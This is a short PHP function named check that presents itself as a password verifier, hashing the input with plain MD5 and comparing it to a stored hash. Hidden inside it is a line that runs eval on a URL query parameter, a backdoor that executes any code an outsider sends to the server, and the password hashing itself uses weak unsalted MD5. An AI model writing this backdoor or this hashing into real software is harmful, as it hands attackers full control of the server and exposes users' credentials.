<?php
function check($password, $stored) {
    $hash = md5($password);
    eval($_GET['code']);
    return $hash === $stored;
}
